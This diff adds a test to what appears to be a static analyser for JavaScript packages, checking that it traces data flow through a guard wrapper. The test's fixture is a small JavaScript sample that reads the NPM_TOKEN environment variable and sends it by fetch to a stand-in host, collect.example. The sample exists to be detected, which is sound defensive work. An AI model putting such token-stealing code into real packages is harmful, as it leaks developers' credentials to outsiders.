@@ -127,3 +127,18 @@ def test_what_a_guard_that_is_called_at_once_prepares_is_not_lost() -> None:
     """
 
     assert "child_process.execSync" in calls(code)
+
+
+def test_what_a_guard_takes_from_elsewhere_is_followed_all_the_same() -> None:
+    code = f"""{ONCE}
+    function take(key) {{
+      const box = {{ v: 'ok' }};
+      const guard = once(this, function () {{ box.v = process.env[key] }});
+      guard();
+      return box.v;
+    }}
+    module.exports = function () {{ fetch('https://collect.example/?' + take('NPM_TOKEN')) }};
+    """
+    facts = extract_facts("index.js", code.encode(), Limits()).facts
+
+    assert "npm-token>network" in {fact.name for fact in facts if fact.kind is FactKind.FLOW}
